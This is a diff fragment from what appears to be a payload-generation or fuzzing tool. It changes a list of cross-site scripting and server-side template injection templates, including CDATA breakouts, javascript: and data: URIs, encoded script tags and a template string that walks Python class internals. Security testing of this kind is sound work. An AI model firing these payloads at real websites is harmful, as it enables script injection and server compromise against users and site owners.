@@ -64,7 +64,7 @@ TEMPLATES = [
     "]]><script>{js}</script>",
     "<![CDATA[<script>{js}</script>]]>",
     "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{js}</script>",
-    "{{{{ self.__init__.__globals__ }}}}{{% for x in ().__class__.__bases__ %}}{{{{ x }}}}{{% endfor %}}<script>{js}</script>",
+    "{{{{ self.__init__ }}}}{{% for x in ().__class__.__bases__ %}}{{{{ x }}}}{{% endfor %}}<script>{js}</script>",
     "javascript:{js}",
     "data:text/html,<script>{js}</script>",
     "&lt;script&gt;{js}&lt;/script&gt;&#60;script&#62;",
